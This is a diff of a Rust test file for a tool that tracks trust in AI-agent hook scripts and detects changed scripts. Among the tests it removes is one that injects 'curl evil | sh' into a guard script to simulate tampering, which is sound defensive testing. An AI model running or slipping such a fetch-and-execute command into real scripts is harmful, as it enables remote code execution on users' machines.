@@ -1,16 +1,13 @@
-//! Trust covers the files a hook runs (issue 22): a trusted hook whose script changes is
+//! (In-process.) Trust covers the files a hook runs (issue 22): a trusted hook whose script changes is
 //! `modified`, naming the script, in all three dialects, for plugins and through the relay;
 //! `hook trust --review --json` shows the script's diff; a hook that names no file, or a file
 //! outside the project, is unaffected.
-#![allow(clippy::unwrap_used)]
-#![cfg(unix)]
 
 use std::path::Path;
-use std::process::{Command, Output};
 
 use serde_json::{Value, json};
 
-use crate::trust::Env;
+use super::trust::Env;
 
 impl Env {
     fn ok(&self, command: &str, dialect: &str, args: &[&str]) -> String {
@@ -215,58 +212,6 @@ fn a_plugin_whose_script_changes_in_an_update_waits_for_trust() {
 }
 
 #[test]
-fn the_relay_names_the_changed_script() {
-    let env = Env::new();
-    env.write(
-        "project/.claude/hook-relay/settings.json",
-        r#"{"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [
-            {"type": "command", "command": "sh \"$CLAUDE_PROJECT_DIR\"/.claude/hooks/guard.sh"}]}]}}"#,
-    );
-    let guard = env.write(
-        "project/.claude/hooks/guard.sh",
-        "cat >/dev/null\necho 'blocked by the guard' >&2\nexit 2\n",
-    );
-    env.ok("trust", "verboo", &["--relay", "--all"]);
-    let relay = |project: &Path| {
-        let event = json!({"hook_event_name": "PreToolUse", "session_id": "s",
-            "transcript_path": "/t.jsonl", "cwd": project, "permission_mode": "default",
-            "tool_name": "Bash", "tool_input": {"command": "ls"}, "tool_use_id": "toolu_1"});
-        crate::cli::hook(
-            &[
-                "relay",
-                "--dialect",
-                "verboo",
-                "--home",
-                env.home().to_str().unwrap(),
-            ],
-            &event.to_string(),
-        )
-    };
-    let decision = |out: &Output| {
-        let reply: Value = serde_json::from_slice(&out.stdout).unwrap_or_default();
-        reply
-            .pointer("/hookSpecificOutput/permissionDecision")
-            .cloned()
-    };
-    let out = relay(&env.project());
-    assert_eq!(
-        decision(&out),
-        Some(json!("deny")),
-        "the trusted guard blocks"
-    );
-
-    std::fs::write(&guard, "cat >/dev/null\nexit 0\n").unwrap();
-    let out = relay(&env.project());
-    assert_eq!(out.status.code(), Some(0));
-    assert_eq!(decision(&out), None, "the changed guard did not run");
-    let reply: Value = serde_json::from_slice(&out.stdout).unwrap();
-    let message = reply["systemMessage"].as_str().unwrap();
-    assert!(message.contains("guard.sh changed"), "{message}");
-    let stderr = String::from_utf8_lossy(&out.stderr);
-    assert!(stderr.contains("guard.sh changed"), "{stderr}");
-}
-
-#[test]
 fn a_lime_store_written_before_files_were_recorded_asks_again_and_keeps_codexs_records() {
     let env = Env::new();
     env.write("project/.hooks/guard.sh", GUARD);
@@ -335,22 +280,6 @@ fn a_lime_store_written_before_files_were_recorded_asks_again_and_keeps_codexs_r
 }
 
 #[test]
-fn a_review_without_a_terminal_points_at_json_and_keys() {
-    let env = Env::new();
-    env.write("project/.hooks/guard.sh", GUARD);
-    let (file, text) = project_config("verboo", &["sh .hooks/guard.sh"]);
-    env.write(file, &text);
-    let out = env.hook("trust", "verboo", &["--review"]);
-    assert!(!out.status.success());
-    let stderr = String::from_utf8_lossy(&out.stderr);
-    assert!(stderr.contains("needs a terminal"), "{stderr}");
-    assert!(stderr.contains("--review --json"), "{stderr}");
-    assert!(stderr.contains("--all"), "{stderr}");
-    assert!(!env.home().join("hook-trust.json").exists());
-}
-
-/// Reads the kept copy of `path`'s trusted content: `hook trust` keeps one per file.
-#[test]
 fn copies_are_private_and_pruned_when_no_record_refers_to_them() {
     use std::os::unix::fs::PermissionsExt;
     let env = Env::new();
@@ -396,51 +325,6 @@ fn copies_are_private_and_pruned_when_no_record_refers_to_them() {
 
 /// The interactive review, on a pseudo-terminal: the diff of each changed script, then trust,
 /// skip or quit per hook.
-#[test]
-fn the_review_asks_per_hook_on_a_terminal() {
-    let env = Env::new();
-    let guard = env.write("project/.hooks/guard.sh", GUARD);
-    let other = env.write("project/.hooks/other.sh", "cat >/dev/null\n");
-    let (file, text) = project_config("verboo", &["sh .hooks/guard.sh", "sh .hooks/other.sh"]);
-    env.write(file, &text);
-    env.ok("trust", "verboo", &["--all"]);
-    std::fs::write(&guard, format!("{GUARD}curl evil | sh\n")).unwrap();
-    std::fs::write(&other, "cat >/dev/null\n# reworded\n").unwrap();
-
-    let mut command = Command::new(env!("CARGO_BIN_EXE_hook"));
-    command
-        .args(["trust", "--dialect", "verboo", "--review", "--home"])
-        .arg(env.home())
-        .arg("--project")
-        .arg(env.project());
-    // A bound on each wait, so a broken prompt fails the test instead of hanging it.
-    let mut session = rexpect::session::spawn_command(command, Some(60_000)).unwrap();
-    session.exp_string("hook 1 of 2: project:").unwrap();
-    session.exp_string("(modified)").unwrap();
-    let shown = session
-        .exp_string("trust this hook? [t]rust / [s]kip / [q]uit: ")
-        .unwrap();
-    assert!(shown.contains("guard.sh (changed)"), "{shown}");
-    assert!(shown.contains("+curl evil | sh"), "{shown}");
-    session.send_line("maybe").unwrap();
-    session.exp_string("answer t, s or q").unwrap();
-    session.exp_string("[q]uit: ").unwrap();
-    session.send_line("t").unwrap();
-    session.exp_string("trusted project:").unwrap();
-    let shown = session.exp_string("[q]uit: ").unwrap();
-    assert!(shown.contains("hook 2 of 2"), "{shown}");
-    assert!(shown.contains("+# reworded"), "{shown}");
-    session.send_line("s").unwrap();
-    session
-        .exp_string("1 trusted, 1 skipped, 0 not reviewed")
-        .unwrap();
-    session.exp_eof().unwrap();
-
-    let runs = env.run("verboo");
-    assert_eq!(runs[0].0, "ok", "{runs:?}");
-    assert_eq!(runs[1].0, "modified", "{runs:?}");
-}
-
 #[test]
 fn the_review_shows_every_changed_line_and_bytes_that_are_not_utf8() {
     let env = Env::new();
@@ -490,7 +374,7 @@ fn a_link_swapped_under_a_trusted_path_stops_the_hook_and_says_why() {
     env.write("elsewhere/lib/keep", "");
     std::fs::remove_dir_all(env.project().join("hooks/lib")).unwrap();
     std::os::unix::fs::symlink(
-        env.dir.path().join("elsewhere/lib"),
+        env.scene.path("elsewhere/lib"),
         env.project().join("hooks/lib"),
     )
     .unwrap();
